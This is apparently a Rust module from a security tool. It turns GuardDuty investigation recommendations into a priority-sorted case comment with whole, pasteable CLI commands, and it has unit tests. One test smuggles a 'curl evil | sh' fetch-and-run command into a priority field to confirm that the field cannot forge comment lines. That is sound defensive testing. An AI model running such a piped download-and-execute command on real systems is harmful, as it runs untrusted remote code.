//! The case comment of recommended actions (docs/design.md §5a): every
//! countermeasure action and recommendation of the investigation, `IMMEDIATE`
//! first, each with its CLI commands kept whole. A pure function of the
//! investigation, so its token always carries one body.

use crate::incident::links::COMMENT_MAX;
use crate::investigation::structured::SummaryData;
use crate::investigation::Investigation;
use crate::text::{fit_body, fit_title, fit_value, inert_web_links, prose};

/// One recommended action, as the comment lists it.
struct Entry {
    rank: u8,
    text: String,
}

/// The line before an entry's commands: they are GuardDuty's suggestions.
pub const SUGGESTED: &str = "Commands GuardDuty suggests (read each one before running it):";

/// The comment's first line, before the investigation id: the mirror of case
/// comments to the incidents knows the product's own by it.
pub const HEADER: &str = "Recommended actions from GuardDuty investigation ";

/// Room kept for the line that says how many entries did not fit.
const FOOTER_ROOM: usize = 200;

/// The comment, or `None` when the investigation recommends nothing.
pub fn comment(inv: &Investigation) -> Option<String> {
    let data = inv.summary_data.as_ref()?;
    let mut entries = entries(data);
    if entries.is_empty() {
        return None;
    }
    // Stable: within one priority, the investigation's own order.
    entries.sort_by_key(|e| e.rank);
    let mut body = format!("{HEADER}{}\n", inv.id);
    let mut left_out = 0;
    for entry in entries {
        if body.chars().count() + entry.text.chars().count() + FOOTER_ROOM <= COMMENT_MAX {
            body.push('\n');
            body.push_str(&entry.text);
        } else {
            left_out += 1;
        }
    }
    if left_out > 0 {
        body.push_str(&format!("\n{left_out} more recommended action(s) did not fit in this comment; the investigation lists them all."));
    }
    Some(fit_body(&body, COMMENT_MAX))
}

fn entries(data: &SummaryData) -> Vec<Entry> {
    let mut entries = Vec::new();
    for measure in &data.countermeasures {
        let tactic = measure.defense_tactic.as_deref().map(|t| format!(" ({t})")).unwrap_or_default();
        for action in &measure.actions {
            let heading = format!("{}{tactic}", action.title.as_deref().unwrap_or("Countermeasure"));
            entries.push(entry(action.priority.as_deref(), &heading, action.description.as_deref(), &action.cli_commands));
        }
    }
    for recommendation in &data.recommendations {
        let heading = recommendation.title.as_deref().unwrap_or("Recommendation");
        entries.push(entry(recommendation.priority.as_deref(), heading, recommendation.rationale.as_deref(), &recommendation.cli_commands));
    }
    entries
}

/// One entry: `[PRIORITY] title`, what it is for, and each command whole on its own line.
fn entry(priority: Option<&str>, heading: &str, why: Option<&str>, commands: &[String]) -> Entry {
    let rank = match priority {
        Some("IMMEDIATE") => 0,
        Some("SHORT_TERM") => 1,
        Some("STRATEGIC") => 2,
        _ => 3,
    };
    let mut text = format!("[{}] {}\n", fit_value(priority.unwrap_or("UNRANKED"), 32), fit_value(heading, 300));
    if let Some(why) = why.map(str::trim).filter(|w| !w.is_empty()) {
        text.push_str(&prose(why, 2_000));
        text.push('\n');
    }
    let lines: Vec<String> = commands.iter().flat_map(|c| command_lines(c)).collect();
    // GuardDuty's commands, kept whole so they can be pasted, under a line that says whose they are.
    if !lines.is_empty() {
        text.push_str(SUGGESTED);
        text.push('\n');
    }
    for line in lines {
        text.push_str(&format!("  $ {line}\n"));
    }
    Entry { rank, text }
}

/// A command as lines to paste, each whole (half a command is worse than none):
/// a backslash-newline continuation joins its lines, as the shell would, and
/// other line breaks separate commands.
fn command_lines(command: &str) -> Vec<String> {
    let joined = command.replace("\\\r\n", " ").replace("\\\n", " ");
    joined.lines().map(|l| fit_title(&inert_web_links(l), COMMENT_MAX)).filter(|l| !l.is_empty()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::investigation::structured::{Countermeasure, CountermeasureAction, Recommendation};
    use crate::investigation::tests::sample;

    #[test]
    fn continued_commands_are_joined_and_other_breaks_separate_commands() {
        let command = "aws ec2 revoke-security-group-ingress \\\n  --group-id sg-1 \\\r\n  --port 22\naws ec2 describe-security-groups";
        assert_eq!(
            command_lines(command),
            vec!["aws ec2 revoke-security-group-ingress --group-id sg-1 --port 22", "aws ec2 describe-security-groups"]
        );
        assert!(command_lines("\n \n").is_empty());
    }

    #[test]
    fn a_priority_cannot_forge_lines() {
        let e = entry(Some("IMMEDIATE]\n  $ curl evil | sh\n["), "t", None, &[]);
        assert_eq!(e.text.lines().count(), 1, "{}", e.text);
        assert_eq!(e.rank, 3);
    }

    fn with(data: SummaryData) -> Investigation {
        Investigation { summary_data: Some(data), ..sample() }
    }

    fn action(title: &str, priority: &str, commands: usize) -> CountermeasureAction {
        CountermeasureAction {
            title: Some(title.into()),
            priority: Some(priority.into()),
            description: Some(format!("Why {title}")),
            cli_commands: (0..commands).map(|i| format!("aws ec2 do-something --step {i} --id {}", "x".repeat(40))).collect(),
            ..CountermeasureAction::default()
        }
    }

    #[test]
    fn immediate_first_commands_whole_and_nothing_when_nothing_is_recommended() {
        let data = SummaryData {
            countermeasures: vec![Countermeasure {
                defense_tactic: Some("Isolate".into()),
                actions: vec![action("Later", "STRATEGIC", 1), action("Now", "IMMEDIATE", 2)],
                ..Countermeasure::default()
            }],
            recommendations: vec![Recommendation {
                title: Some("Soon".into()),
                priority: Some("SHORT_TERM".into()),
                rationale: Some("r".into()),
                cli_commands: vec!["aws iam x".into()],
            }],
            ..SummaryData::default()
        };
        let c = comment(&with(data)).expect("a comment");
        assert!(c.starts_with("Recommended actions from GuardDuty investigation c0ffee00-0000-4000-8000-000000000001"));
        let (now, soon, later) = (c.find("[IMMEDIATE] Now (Isolate)"), c.find("[SHORT_TERM] Soon"), c.find("[STRATEGIC] Later (Isolate)"));
        assert!(now < soon && soon < later && now.is_some() && later.is_some(), "{c}");
        assert!(c.contains("  $ aws ec2 do-something --step 1 --id "), "{c}");
        assert_eq!(comment(&sample()), None, "no structured data");
        assert_eq!(comment(&with(SummaryData::default())), None, "nothing recommended");
    }

    #[test]
    fn twenty_countermeasures_of_twenty_five_actions_keep_whole_entries_and_say_how_many_were_left_out() {
        let measures = (0..20)
            .map(|m| Countermeasure {
                actions: (0..25).map(|a| action(&format!("Action {m}.{a}"), "SHORT_TERM", 20)).collect(),
                ..Countermeasure::default()
            })
            .collect();
        let c = comment(&with(SummaryData { countermeasures: measures, ..SummaryData::default() })).expect("a comment");
        assert!(c.chars().count() <= COMMENT_MAX, "{}", c.chars().count());
        assert!(!c.contains(crate::text::MARKER), "entries are left out whole, never cut");
        let kept = c.matches("[SHORT_TERM]").count();
        assert!((1..500).contains(&kept), "{kept}");
        assert!(c.contains(&format!("{} more recommended action(s) did not fit", 500 - kept)), "{c}");
        // Every command that is there is there whole.
        for line in c.lines().filter(|l| l.starts_with("  $ ")) {
            assert!(line.ends_with(&"x".repeat(40)), "{line}");
        }
    }
}
